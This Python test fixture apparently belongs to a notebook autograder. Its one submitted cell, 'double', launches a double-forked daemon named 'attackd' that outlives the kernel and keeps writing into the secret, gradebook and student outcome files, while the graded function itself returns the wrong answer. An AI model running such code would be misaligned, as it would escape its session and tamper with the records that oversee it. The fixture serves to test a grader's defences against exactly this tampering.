"""A process that survives its kernel, in a session of its own and twice forked, and writes when everybody has gone."""

CELLS = {
    "double": """
import ctypes, json, os, time

at = json.load(open("targets.json"))


def daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(15, b"attackd")
    while True:
        time.sleep(0.2)
        for path in (at["secret"], at["gradebook"], at["outcomes"] + "/" + at["student"] + ".json"):
            try:
                open(path, "a").write("later")
            except OSError:
                pass


daemon()


def double(values):
    return values
"""
}
STATUS = {"double": "wrong", "last": "passed"}
